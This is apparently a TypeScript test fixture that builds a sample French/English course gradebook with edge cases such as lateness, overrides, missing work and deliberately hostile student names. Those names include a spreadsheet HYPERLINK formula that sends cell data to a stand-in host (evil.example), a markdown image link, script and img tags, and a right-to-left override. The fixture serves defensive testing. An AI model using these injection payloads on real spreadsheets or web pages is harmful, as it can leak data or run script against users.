// A class in which everything is that can be: every standing, hostile names, lateness, an override.
// Its points are written by hand, as whoever grades would have them; nothing is computed here.
import {
  type Entry,
  Gradebook,
  type GradedStudent,
  type Mark,
  type Student,
} from '../../../../graders/engine/batch/gradebook/gradebook.ts';
import type { Verdict } from '../../../../graders/engine/verdict/verdict.ts';
import { INCONCLUSIVE, LITERAL, type SampleVerdicts } from './sample-verdicts.ts';

export const LONG_NAME = 'Maximilienne-Éléonore de la '.repeat(18).slice(0, 500);

export const NAMES = {
  formula: '=HYPERLINK("http://evil.example/?"&A1,"Ada")',
  lines: 'Nils "le Petit"\nÅström, fils',
  emoji: '👩‍👩‍👧 Zoé <b>&amp;</b> 🎉',
  rightToLeft: 'سارة بنت\u200cعلي \u202eevil',
  markdown: '# @admin `rm` ![x](http://evil.example/x.png) | </details>',
} as const;

export function student(key: string, changes: Partial<Student> = {}): Student {
  const [id, email] = [`2026${key.length}${key.charCodeAt(0)}`, `${key}@school.example`];
  return { key, name: key, id, email, lang: 'fr', path: key, roster: 'listed', ...changes };
}

/** Nobody looks at points that are not told: `points` null is a mark without any. */
export function mark(points: number | null, maxPoints: number, changes: Partial<Mark> = {}): Mark {
  return {
    rawPoints: points,
    maxPoints,
    points,
    late: null,
    pointsAfterLate: points,
    weight: maxPoints,
    isDropped: false,
    ...changes,
  };
}

export function entry(
  exercise: string,
  state: Entry['state'],
  ofMark: Mark,
  changes: Partial<Entry> = {},
): Entry {
  const submittedAt = '2026-03-02T10:00:00+01:00';
  return { exercise, submittedAt, state, override: null, mark: ofMark, ...changes };
}

export function judged(verdict: Verdict): Entry['state'] {
  return { kind: 'judged', verdict, evidence: `evidence/${verdict.exercise}.json` };
}

const [EX1, EX2, EX4] = ['ex1-requests', 'ex2-thread-pool', 'ex4-speed'] as const;
const missing = (exercise: string, most: number, changes: Partial<Mark> = {}) =>
  entry(exercise, { kind: 'missing' }, mark(0, most, changes), { submittedAt: null });
const dropped = missing(EX4, 10, { isDropped: true });

const total = (points: number | null, passed: boolean | null, maxPoints = 50) => ({
  points,
  maxPoints,
  percent: points === null ? null : points * 2,
  passed,
});

function graded(
  who: Student,
  entries: Entry[],
  points: number | null,
  passed: boolean | null = null,
): GradedStudent {
  return { student: who, entries, total: total(points, passed) };
}

export const OVERRIDE = {
  points: 25.5,
  because: '=1+1 agreed on paper:\n```\n</pre><script>alert(1)</script>',
  by: 'teacher',
  at: '2026-03-05T08:00:00Z',
};

function studentsOf({ passed, oneByOne, oneWorker }: SampleVerdicts): GradedStudent[] {
  const one = (lang: 'fr' | 'en') => entry(EX1, judged(oneByOne[lang]), mark(11, 20));
  const two = (lang: 'fr' | 'en') => entry(EX2, judged(oneWorker[lang]), mark(19, 30));
  return [
    graded(
      student('ada', { name: NAMES.formula, id: '-1001' }),
      [
        entry(EX1, judged(passed), mark(20, 20)),
        entry(EX2, judged(oneWorker.fr), mark(25.5, 30, { rawPoints: 19 }), { override: OVERRIDE }),
        dropped,
      ],
      45.5,
      true,
    ),
    graded(
      student('nils', { name: NAMES.lines, lang: 'en' }),
      [
        entry(
          EX1,
          judged(oneByOne.en),
          mark(11, 20, {
            late: { days: 2, penaltyPoints: 2.2 },
            pointsAfterLate: 8.799999999999999,
          }),
        ),
        two('en'),
        dropped,
      ],
      27.8,
      true,
    ),
    graded(
      student('zoe', { name: NAMES.emoji }),
      [one('fr'), missing(EX2, 30), dropped],
      11,
      false,
    ),
    graded(student('sara', { name: NAMES.rightToLeft }), [one('fr'), two('fr'), dropped], 30, true),
    graded(student('max', { name: LONG_NAME }), [one('fr'), two('fr'), dropped], 30, true),
    graded(student('jean', { name: 'Jean Dupont' }), [one('fr'), two('fr'), dropped], 30, true),
    graded(
      student('jean-2', { name: 'Jean Dupont' }),
      [missing(EX1, 20), two('fr'), dropped],
      19,
      false,
    ),
    graded(
      student('nobody', { name: NAMES.markdown, id: undefined, email: undefined }),
      [
        entry(
          EX1,
          { kind: 'judged', verdict: INCONCLUSIVE, evidence: 'evidence/nobody.json' },
          mark(null, 20),
        ),
        two('fr'),
        dropped,
      ],
      null,
    ),
    graded(
      student('unread', { lang: 'en' }),
      [
        entry(
          EX1,
          {
            kind: 'unreadable',
            why: 'errors.submission-is-a-file.problem',
            values: { path: '<img src=x>`.zip' },
          },
          mark(null, 20),
        ),
        entry(EX2, { kind: 'pending' }, mark(null, 30)),
        entry(
          EX4,
          { kind: 'broken', why: 'TypeError: undefined\n    at judge ]]>' },
          mark(null, 10),
        ),
      ],
      null,
    ),
  ];
}

/** Every standing, every hostile name; parsed by its own schema. */
export function sampleGradebook(
  changes: Partial<Gradebook> = {},
  verdicts: SampleVerdicts = LITERAL,
): Gradebook {
  const { oneByOne, oneWorker } = verdicts;
  const checks = ({ fr, en }: Record<'fr' | 'en', Verdict>) =>
    fr.checks.map(({ id, title, skill, maxPoints }, at) => ({
      id,
      title: { fr: title, en: en.checks[at]?.title ?? title },
      skill,
      maxPoints,
    }));
  return Gradebook.parse({
    version: 'gradebook/v1',
    gradedAt: '2026-03-04T17:30:00.250Z',
    seed: 42,
    sandbox: 'guarded',
    lang: 'fr',
    course: { title: 'Concurrence <2026>', passPercent: 50, dropLowest: 1 },
    exercises: [
      {
        id: EX1,
        title: { fr: 'Le simulacre de requêtes web', en: 'Simulated web requests' },
        maxPoints: 20,
        checks: checks(oneByOne),
        dueAt: '2026-03-01T23:59:00+01:00',
      },
      {
        id: EX2,
        title: { fr: 'Traitement de fichiers en parallèle', en: 'Processing files in parallel' },
        maxPoints: 30,
        checks: checks(oneWorker),
        dueAt: null,
      },
      {
        id: EX4,
        title: { fr: 'La comparaison de vitesse', en: 'Speed comparison' },
        maxPoints: 10,
        checks: [],
        dueAt: null,
      },
    ],
    students: studentsOf(verdicts),
    oddities: [],
    ...changes,
  });
}
